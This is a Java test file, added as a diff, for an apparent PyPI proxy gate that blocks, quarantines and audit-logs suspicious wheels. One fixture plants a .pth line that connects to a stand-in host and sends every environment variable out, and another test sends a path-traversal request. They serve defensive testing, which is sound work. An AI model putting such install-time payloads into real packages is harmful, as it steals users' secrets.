@@ -1,0 +1,132 @@
+package dev.gatehouse.proxy.pypi;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.net.http.HttpResponse;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.Optional;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Wheels through the gate with the real analyzer: served and kept, blocked, quarantined and approved, each
+ * decision reflected on the project's page at once and written to the audit log.
+ */
+class GatedDownloadTest {
+  private static final Pattern QUARANTINE_ID = Pattern.compile("quarantine id (\\S+?);");
+
+  @TempDir Path tmp;
+  private FakeIndex upstream;
+  private RunningGatehouse gatehouse;
+
+  @BeforeEach
+  void start() throws Exception {
+    upstream = FakeIndex.start();
+    gatehouse = RunningGatehouse.start(tmp, upstream.url("/simple/"), new String[] {upstream.url("/files/")},
+        Optional.empty(), new SettableClock(Instant.parse("2026-05-01T12:00:00Z")));
+  }
+
+  @AfterEach
+  void stop() throws Exception {
+    gatehouse.close();
+    upstream.close();
+  }
+
+  /** Lists {@code wheels} as the files of {@code project} and serves their bytes. */
+  private void publish(String project, WheelFixture... wheels) {
+    StringBuilder page = new StringBuilder();
+    for (WheelFixture wheel : wheels) {
+      page.append("<a href=\"../../files/%s#sha256=%s\">%1$s</a>\n".formatted(wheel.fileName(),
+          WheelFixture.sha256Hex(wheel.bytes())));
+      upstream.body("/files/" + wheel.fileName(), "application/octet-stream", wheel.bytes());
+    }
+    upstream.html("/simple/" + project + "/", page.toString());
+  }
+
+  private String path(String project, WheelFixture wheel) {
+    return "/pypi/files/" + project + "/" + upstream.hostPort() + "/files/" + wheel.fileName();
+  }
+
+  private String page(String project) throws Exception {
+    return gatehouse.get("/pypi/simple/" + project + "/", "Accept", "text/html").body();
+  }
+
+  @Test
+  void aCleanWheelIsServedAndKeptSoThatLaterRequestsStayLocal() throws Exception {
+    WheelFixture wheel = WheelFixture.of("demo_pkg", "1.0").file("demo_pkg/__init__.py", "def f():\n    return 1\n");
+    publish("demo-pkg", wheel);
+
+    HttpResponse<byte[]> first = gatehouse.getBytes(path("demo-pkg", wheel));
+    HttpResponse<byte[]> second = gatehouse.getBytes(path("demo-pkg", wheel));
+    HttpResponse<byte[]> conditional = gatehouse.getBytes(path("demo-pkg", wheel),
+        "If-None-Match", first.headers().firstValue("ETag").orElseThrow());
+
+    assertThat(first.statusCode()).isEqualTo(200);
+    assertThat(first.body()).isEqualTo(wheel.bytes());
+    assertThat(second.body()).isEqualTo(wheel.bytes());
+    assertThat(conditional.statusCode()).isEqualTo(304);
+    assertThat(upstream.hits("/files/" + wheel.fileName())).isEqualTo(1);
+  }
+
+  @Test
+  void aBlockedWheelIsRefusedWithItsReasonLeavesItsPageAndKeepsNoBytes() throws Exception {
+    WheelFixture good = WheelFixture.of("demo_evil", "0.9").file("demo_evil/__init__.py", "");
+    WheelFixture evil = WheelFixture.of("demo_evil", "1.0").file("demo_evil/__init__.py", "")
+        .file("demo_evil_init.pth", "import os, socket; socket.create_connection(('collector.invalid', 443))"
+            + ".sendall(repr(dict(os.environ)).encode())\n");
+    publish("demo-evil", good, evil);
+
+    RawRequest.Answer refused = RawRequest.get(gatehouse.port(), path("demo-evil", evil));
+    HttpResponse<String> page = gatehouse.get("/pypi/simple/demo-evil/", "Accept", "text/html");
+
+    assertThat(refused.status()).isEqualTo(403);
+    assertThat(refused.statusLine()).contains("Gatehouse blocked demo-evil@1.0 (demo_evil-1.0-py3-none-any.whl) by rule",
+        "demo_evil_init.pth");
+    assertThat(page.body()).contains(good.fileName()).doesNotContain(evil.fileName());
+    assertThat(page.headers().firstValue("X-Gatehouse-Filtered")).hasValue("1");
+    assertThat(gatehouse.keptFiles()).noneMatch(p -> p.getFileName().toString()
+        .equals(WheelFixture.sha256Hex(evil.bytes())));
+  }
+
+  @Test
+  void aQuarantinedWheelNamesItsIdAndAnApprovalServesAndListsItAgain() throws Exception {
+    WheelFixture tampered = WheelFixture.of("demo_pkg", "2.0").file("demo_pkg/__init__.py", "")
+        .unrecorded("demo_pkg/extra.py", "X = 1\n");
+    publish("demo-pkg", tampered);
+
+    RawRequest.Answer held = RawRequest.get(gatehouse.port(), path("demo-pkg", tampered));
+    assertThat(held.status()).isEqualTo(403);
+    assertThat(held.statusLine()).contains("Gatehouse quarantined demo-pkg@2.0 (demo_pkg-2.0-py3-none-any.whl)",
+        "/api/v1/quarantine/");
+    Matcher id = QUARANTINE_ID.matcher(held.statusLine());
+    assertThat(id.find()).as(held.statusLine()).isTrue();
+    assertThat(page("demo-pkg")).doesNotContain(tampered.fileName());
+
+    HttpResponse<String> approval = gatehouse.admin("/api/v1/quarantine/" + id.group(1) + "/approve",
+        "{\"reason\": \"extra.py is a generated constant\"}", "reviewer-ann");
+
+    assertThat(approval.statusCode()).as(approval.body()).isEqualTo(200);
+    assertThat(gatehouse.getBytes(path("demo-pkg", tampered)).body()).isEqualTo(tampered.bytes());
+    assertThat(page("demo-pkg")).contains(tampered.fileName());
+    assertThat(upstream.hits("/files/" + tampered.fileName())).as("quarantined bytes are kept").isEqualTo(1);
+  }
+
+  @Test
+  void everyRequestUnderPypiIsInTheAuditLog() throws Exception {
+    WheelFixture wheel = WheelFixture.of("demo_pkg", "1.0").file("demo_pkg/__init__.py", "");
+    publish("demo-pkg", wheel);
+
+    page("demo-pkg");
+    gatehouse.getBytes(path("demo-pkg", wheel));
+    gatehouse.get("/pypi/files/demo-pkg/evil.invalid/x/%2e%2e/demo_pkg-1.0-py3-none-any.whl");
+
+    String audit = gatehouse.adminGet("/api/v1/audit?ecosystem=pypi").body();
+    assertThat(audit).contains("\"file\" : \"demo_pkg-1.0-py3-none-any.whl\"", "\"decision\" : \"allow\"",
+        "\"version\" : \"1.0\"", "\"status\" : 400", "\"package\" : \"demo-pkg\"");
+  }
+}
